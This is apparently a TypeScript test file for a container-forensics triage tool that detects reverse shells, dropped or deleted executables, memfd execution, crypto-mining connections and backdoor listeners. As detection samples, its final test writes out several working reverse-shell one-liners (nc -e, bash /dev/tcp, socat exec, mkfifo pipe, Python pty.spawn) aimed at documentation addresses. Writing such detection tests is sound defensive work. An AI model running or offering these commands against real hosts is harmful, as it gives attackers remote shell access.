import t from 'tap';
import type { InspectedProcess, InspectedSocket, Inspection } from '../../src/analysis/inspection.js';
import { MINING_PORTS, REVERSE_SHELL_PORTS, triageIndicators } from '../../src/analysis/triage-indicators.js';

const tcp = (fd: number, remote: string, state = 'ESTABLISHED', local = '10.244.1.7:40000'): InspectedSocket => ({
  fd,
  kind: 'inet',
  family: 'ipv4',
  protocol: 'tcp',
  state,
  type: 'stream',
  local,
  remote,
  inode: 1000 + fd,
});

function proc(pid: number, comm: string, over: Partial<InspectedProcess> = {}): InspectedProcess {
  return { pid, ppid: 1, comm, threads: [pid], cmdline: [comm], env: [], files: [], sockets: [], ...over };
}

function inspection(processes: InspectedProcess[], over: Partial<Inspection> = {}): Inspection {
  return { container: {}, processes, rootfsDiff: { added: [], deleted: [] }, stats: {}, warnings: [], ...over };
}

const ids = (i: Inspection) => triageIndicators(i).map((x) => `${x.id}:${x.pid ?? x.path ?? ''}`);

t.test('a shell with stdin or stdout on a socket is a reverse shell; with a pipe or a tty it is not', async (t) => {
  const shells = [
    proc(9, 'bash', { cmdline: ['bash', '-i'], sockets: [0, 1, 2].map((fd) => tcp(fd, '203.0.113.50:8080')) }),
    proc(10, 'sh', { exe: '/bin/busybox', cmdline: ['sh'], sockets: [tcp(1, '198.51.100.1:9999')] }),
    proc(11, 'x', { exe: '/usr/bin/zsh (deleted)', sockets: [tcp(0, '198.51.100.2:80')] }),
    proc(12, '-ash', { cmdline: ['-ash'], sockets: [{ fd: 0, kind: 'unix', type: 'stream', path: '/run/s.sock', inode: 5 }] }),
    proc(13, 'bash', { files: [{ fd: 0, kind: 'tty', path: '/dev/pts/0' }], sockets: [tcp(3, '10.0.0.1:5432')] }),
    proc(14, 'python3', { sockets: [tcp(0, '203.0.113.9:8000')] }),
  ];
  const found = triageIndicators(inspection(shells)).filter((x) => x.id === 'reverse-shell');
  t.same(
    found.map((x) => [x.pid, x.severity]),
    [
      [9, 'high'],
      [10, 'high'],
      [11, 'high'],
      [12, 'medium'],
    ],
  );
  t.match(found[0], {
    summary: 'bash (pid 9) has its stdin and stdout on a socket to 203.0.113.50:8080',
    evidence: { cmdline: ['bash', '-i'], sockets: [{ fd: 0, remote: '203.0.113.50:8080' }, { fd: 1 }] },
  });
});

t.test('an executable added to the filesystem, stronger when it runs or sits in scratch space', async (t) => {
  const added = [
    { path: '/tmp/.x/kworkerd', type: 'file', size: 49152, mode: '0755', executable: true, sha256: 'a'.repeat(64) },
    { path: '/usr/local/bin/tool', type: 'file', size: 10, mode: '0750', executable: true, sha256: 'b'.repeat(64) },
    { path: '/opt/app/run', type: 'file', size: 10, mode: '0755', executable: true, sha256: 'c'.repeat(64) },
    { path: '/tmp/.x/config.json', type: 'file', size: 10, mode: '0644', executable: false, sha256: 'd'.repeat(64) },
    { path: '/tmp/.x', type: 'dir', size: 0, mode: '0755', executable: false },
    { path: '/usr/bin/link', type: 'symlink', size: 0, mode: '0777', executable: false, linkTarget: '/tmp/.x/kworkerd' },
  ];
  const found = triageIndicators(inspection([proc(7, 'kworkerd', { exe: '/opt/app/run' })], { rootfsDiff: { added, deleted: [] } })).filter(
    (x) => x.id === 'executable-added',
  );
  t.same(
    found.map((x) => [x.path, x.severity]),
    [
      ['/tmp/.x/kworkerd', 'high'],
      ['/usr/local/bin/tool', 'medium'],
      ['/opt/app/run', 'high'],
    ],
  );
  t.same(found[0]?.evidence, { sha256: 'a'.repeat(64), size: 49152, mode: '0755' });
  t.same(found[2]?.evidence?.runningAs, [7]);
});

t.test('an executable deleted from disk or running from memfd', async (t) => {
  const got = ids(
    inspection(
      [
        proc(20, 'a', { exe: '/tmp/dropper (deleted)' }),
        proc(21, 'b', { exe: '/app/gone' }),
        proc(22, 'c', { exe: '/memfd:payload (deleted)' }),
        proc(23, 'd', { exe: 'memfd:x' }),
        proc(24, 'e', { exe: '/usr/bin/fine' }),
      ],
      { rootfsDiff: { added: [], deleted: ['/app/gone'] } },
    ),
  );
  t.same(got, ['exe-deleted:20', 'exe-deleted:21', 'exe-memfd:22', 'exe-memfd:23']);
});

t.test('connections to mining-pool and reverse-shell ports, listeners on backdoor ports, miner arguments', async (t) => {
  const got = triageIndicators(
    inspection([
      proc(7, 'kworkerd', { cmdline: ['/tmp/.x/kworkerd', '-o', 'stratum+tcp://198.51.100.7:3333'], sockets: [tcp(3, '198.51.100.7:3333')] }),
      proc(8, 'nc', { sockets: [tcp(3, '203.0.113.50:31337'), tcp(4, '0.0.0.0:0', 'LISTEN', '0.0.0.0:4444')] }),
      proc(9, 'web', { sockets: [tcp(3, '10.0.0.5:5432'), tcp(4, '[2001:db8::1]:14444')] }),
    ]),
  );
  t.same(
    got.map((x) => `${x.id}:${x.pid}`),
    ['mining-cmdline:7', 'mining-port:7', 'reverse-shell-port:8', 'backdoor-listener:8', 'mining-port:9'],
  );
  t.match(got[1], { severity: 'high', evidence: { fd: 3, remote: '198.51.100.7:3333', state: 'ESTABLISHED' } });
  t.ok(MINING_PORTS.includes(3333) && REVERSE_SHELL_PORTS.includes(4444), 'the documented lists hold the classic ports');
});

t.test('how long the container was frozen, in milliseconds, as information', async (t) => {
  const [frozen] = triageIndicators(inspection([], { stats: { freezingTimeUs: 611, frozenTimeUs: 140_205 } }));
  t.same(frozen, {
    id: 'frozen-time',
    severity: 'info',
    summary: 'the container was frozen for 140.2 ms while it was checkpointed',
    evidence: { frozenMs: 140.2, freezingMs: 0.6 },
  });
  t.same(triageIndicators(inspection([])), [], 'nothing to say about an empty inspection');
});

t.test('a command line that opens a reverse shell is an indicator; ordinary use of the same tools is not', async (t) => {
  const sh = (pid: number, script: string) => proc(pid, 'sh', { cmdline: ['/bin/sh', '-c', script] });
  const hits = [
    sh(20, 'sleep 1; nc 127.0.0.1 4444 -e /bin/sh & wait'),
    proc(21, 'ncat', { cmdline: ['ncat', '10.0.0.9', '9001', '-e', '/bin/bash'] }),
    sh(22, 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'),
    proc(23, 'socat', { cmdline: ['socat', 'tcp:203.0.113.5:443', 'exec:/bin/sh,pty,stderr'] }),
    sh(24, 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 1234 > /tmp/f'),
    proc(25, 'python3', {
      cmdline: [
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",80));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
      ],
    }),
  ];
  const misses = [
    proc(30, 'nc', { cmdline: ['nc', '-z', 'db', '5432'] }),
    proc(31, 'nc', { cmdline: ['nc', '-l', '-p', '8080'] }),
    sh(32, 'echo /dev/tcp is a bash feature; cat README'),
    proc(33, 'socat', { cmdline: ['socat', 'tcp-listen:80,fork', 'tcp:backend:8080'] }),
    proc(34, 'python3', { cmdline: ['python3', '-m', 'http.server'] }),
  ];
  const found = triageIndicators(inspection([...hits, ...misses])).filter((x) => x.id === 'reverse-shell-cmdline');
  t.same(
    found.map((x) => x.pid),
    [20, 21, 22, 23, 24, 25],
  );
  t.match(found[0], {
    severity: 'high',
    summary: /^sh \(pid 20\) runs a reverse-shell command \(nc 127\.0\.0\.1 4444 -e \/bin\/sh\)$/,
    evidence: { match: 'nc 127.0.0.1 4444 -e /bin/sh' },
  });
});
